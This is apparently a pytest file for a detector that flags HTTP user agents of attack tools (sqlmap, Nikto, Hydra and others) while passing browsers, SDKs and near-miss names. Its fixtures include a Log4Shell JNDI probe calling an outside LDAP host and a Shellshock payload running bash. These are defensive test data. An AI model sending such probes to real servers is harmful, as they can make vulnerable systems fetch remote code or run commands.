"""AI.AccessFromSuspiciousUserAgent: attack tools alert; browsers, SDKs and near misses never do."""

from __future__ import annotations

import pytest

from otel_ai_detect.config_types import UserAgentConfig
from otel_ai_detect.detectors.base import ContentDetector, RequestDetector
from otel_ai_detect.detectors.user_agent import (EVIDENCE_LIMIT, MAX_USER_AGENT, SignatureError,
                                                 UserAgentDetector, builtin_signatures,
                                                 parse_signatures)
from otel_ai_detect.model import Peer


@pytest.fixture(scope="module")
def detector() -> UserAgentDetector:
    return UserAgentDetector(UserAgentConfig())


ATTACK_TOOLS = [
    ("sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap"),
    ("sqlmap/1.0-dev-nongit-20150902 (http://sqlmap.org)", "sqlmap"),
    ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Nikto"),
    ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Nikto"),
    ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei"),
    ("Mozilla/5.0 (compatible; Nuclei - Open-source project "
     "(github.com/projectdiscovery/nuclei))", "Nuclei"),
    ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
     "Nmap Scripting Engine"),
    ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "masscan"),
    ("Mozilla/5.0 zgrab/0.x", "zgrab"),
    ("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "WPScan"),
    ("WPScan v2.9.3 (http://wpscan.org)", "WPScan"),
    ("gobuster/3.6", "gobuster"),
    ("Fuzz Faster U Fool v2.1.0-dev", "ffuf"),
    ("feroxbuster/2.10.1", "feroxbuster"),
    ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
     "DirBuster"),
    ("Mozilla/4.0 (Hydra)", "THC-Hydra"),
    ("Mozilla/5.0 (Hydra)", "THC-Hydra"),
    ("Wfuzz/3.1.0", "wfuzz"),
    ("tplmap/0.5", "tplmap"),
    ("garak/0.9.0.13 (LLM vulnerability scanner https://garak.ai)", "garak"),
    ("garak/0.14.0.pre1 (LLM vulnerability scanner https://garak.ai)", "garak"),
    ("commix/v4.0-stable (https://commixproject.com)", "commix"),
    ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "OpenVAS"),
    ("Mozilla/4.75 [en] (X11, U; OpenVAS)", "OpenVAS"),
    ("Arachni/v1.5.1", "Arachni"),
    ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; w3af.org)", "w3af"),
    ("WhatWeb/0.5.5", "WhatWeb"),
    ("Mozilla/5.0 (Acunetix Web Vulnerability Scanner)", "Acunetix"),
    ("Mozilla/5.0 (compatible; Netsparker)", "Netsparker"),
    ("Mozilla/5.0 (compatible; Nessus)", "Nessus"),
    ("${jndi:ldap://198.51.100.7:1389/a}", "Log4Shell probe"),
    ("() { :; }; /bin/bash -c 'id'", "Shellshock probe"),
    ("Mozilla/5.0 (Windows NT 10.0) Chrome/120.0 c7x1.oastify.com",
     "OAST callback (Burp Collaborator, interactsh)"),
    ("SQLMAP/1.8.4#STABLE", "sqlmap"),
]


@pytest.mark.parametrize("ua,tool", ATTACK_TOOLS, ids=[f"{t}: {u[:40]}" for u, t in ATTACK_TOOLS])
def test_a_default_attack_tool_user_agent_alerts(detector, ua, tool):
    [f] = detector.detect_peer(Peer(addresses=("203.0.113.9",), user_agent=ua))
    assert f.rule == "AI.AccessFromSuspiciousUserAgent" and f.detector == "user_agent"
    assert f.source == "request" and f.path == "user_agent.original"
    assert f.confidence == pytest.approx(0.9)
    assert f.evidence == f'user agent "{ua}" matches {tool}'


LEGITIMATE = [
    # Browsers, desktop and mobile
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
    " Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko)"
    " SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
    # HTTP clients and AI SDKs: how legitimate applications call
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Python/3.11 aiohttp/3.9.5",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "node-fetch",
    "axios/1.6.8",
    "OpenAI/Python 1.30.1",
    "AsyncOpenAI/Python 1.30.1",
    "Anthropic/Python 0.25.8",
    "AsyncAnthropic/Python 0.25.8",
    "OpenAI/JS 4.47.1",
    "google-genai-sdk/1.2.0 gl-python/3.11.7",
    "langchain/0.2.1",
    "LangChain.js/0.2.0 (node)",
    "PostmanRuntime/7.37.3",
    "okhttp/4.12.0",
    "Java-http-client/17.0.11",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.1;"
    " +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0;"
    " +https://openai.com/bot",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0;"
    " +claudebot@anthropic.com)",
    "Wget/1.21.4",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240405.002)",
    # Near misses: the name inside another word or product
    "Hydration-Tracker/2.3 (iPhone; iOS 17.4)",
    "HydraMonitor/1.0",
    "Mozilla/5.0 (Hydra Proxy)",
    "ory-hydra/2.2.0 Go-http-client/1.1",
    "sqlmapper/2.0",
    "SQLMapper ORM 1.4",
    "Unmapped-Roadmap/1.0",
    "python-nmap/0.7.1",
    "NucleiApp/2.0 (cell biology)",
    "MyAcunetixDashboard/1.0",
    "Garakuta/1.0",
    "Nessusd-Fan/1.0",
    "WPScanner-Reviews/1.0",
    "",
]


@pytest.mark.parametrize("ua", LEGITIMATE, ids=[u[:60] or "empty" for u in LEGITIMATE])
def test_browsers_sdks_and_near_misses_never_alert(detector, ua):
    assert detector.detect_peer(Peer(user_agent=ua)) == []


def test_a_peer_without_a_user_agent_has_no_findings(detector):
    assert detector.detect_peer(Peer(addresses=("198.51.100.1",))) == []


def test_evidence_is_escaped_and_never_longer_than_the_limit(detector):
    ua = "sqlmap/1.7.2#stable\n\x00 " + "A" * 5000
    [f] = detector.detect_peer(Peer(user_agent=ua))
    shown = f.evidence[len('user agent "'):f.evidence.rindex('" matches')]
    assert len(shown) <= EVIDENCE_LIMIT
    assert shown.startswith("sqlmap/1.7.2#stable\\x0a\\x00 AAA")
    assert shown.endswith("\u2026(5022 chars)")
    assert f.evidence.endswith('" matches sqlmap') and f.evidence.isprintable()


def test_only_the_first_two_kilobytes_are_examined(detector):
    assert detector.detect_peer(Peer(user_agent="A" * MAX_USER_AGENT + "sqlmap/1.0")) == []
    assert detector.match("A" * (MAX_USER_AGENT - 20) + " sqlmap/1.0") == ("sqlmap",)


def test_a_user_agent_naming_several_tools_lists_each_once(detector):
    ua = "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001) sqlmap/1.0"
    assert detector.match(ua) == ("sqlmap", "Nikto")


def test_the_fingerprint_is_a_short_hash_of_the_user_agent(detector):
    [a] = detector.detect_peer(Peer(user_agent="gobuster/3.6"))
    [b] = detector.detect_peer(Peer(user_agent="gobuster/3.5"))
    assert len(a.fingerprint) == 12 and a.fingerprint != b.fingerprint
    assert "gobuster" not in a.fingerprint


def test_the_built_in_list_covers_the_documented_tools():
    tools = {s.tool for s in builtin_signatures()}
    assert {"sqlmap", "Nikto", "Nuclei", "Nmap Scripting Engine", "masscan", "zgrab", "WPScan",
            "gobuster", "ffuf", "feroxbuster", "DirBuster", "THC-Hydra", "wfuzz", "tplmap",
            "garak"} <= tools
    assert len(tools) >= 40


def test_a_user_signature_file_extends_the_built_in_list(tmp_path):
    path = tmp_path / "extra.txt"
    path.write_text("# our own red team\n\nRed team bot\t\\bacme-redteam/\\d\n", encoding="utf-8")
    d = UserAgentDetector(UserAgentConfig(signatures_file=str(path)))
    [f] = d.detect_peer(Peer(user_agent="ACME-RedTeam/2.1"))
    assert f.evidence == 'user agent "ACME-RedTeam/2.1" matches Red team bot'
    assert d.match("sqlmap/1.0") == ("sqlmap",)
    assert len(d.signatures) == len(builtin_signatures()) + 1


def test_a_bad_signature_file_reports_every_problem_with_its_line():
    text = "ok\t\\bok/\\d\nno tab here\nbroken\t(unclosed\nempty\ta*\n\t\\bnameless\n"
    with pytest.raises(SignatureError) as err:
        parse_signatures(text, "extra.txt")
    problems = err.value.problems
    assert [p.split(":")[1] for p in problems] == ["2", "3", "4", "5"]
    assert "invalid RE2 regex" in problems[1] and "empty string" in problems[2]


def test_a_missing_signature_file_fails_at_start(tmp_path):
    with pytest.raises(OSError):
        UserAgentDetector(UserAgentConfig(signatures_file=str(tmp_path / "missing.txt")))


def test_signatures_can_opt_into_case_sensitivity():
    from otel_ai_detect.detectors.user_agent import SignatureSet
    sigs = SignatureSet(parse_signatures("Exact\t(?-i:ExactCase)\n", "t"))
    assert sigs.match("ExactCase/1") == ("Exact",) and sigs.match("exactcase/1") == ()


def test_a_disabled_detector_reports_nothing():
    d = UserAgentDetector(UserAgentConfig(enabled=False))
    assert d.detect_peer(Peer(user_agent="sqlmap/1.0")) == []


def test_the_detector_is_a_request_detector_not_a_content_detector(detector):
    assert isinstance(detector, RequestDetector) and not isinstance(detector, ContentDetector)
    assert detector.name == "user_agent"
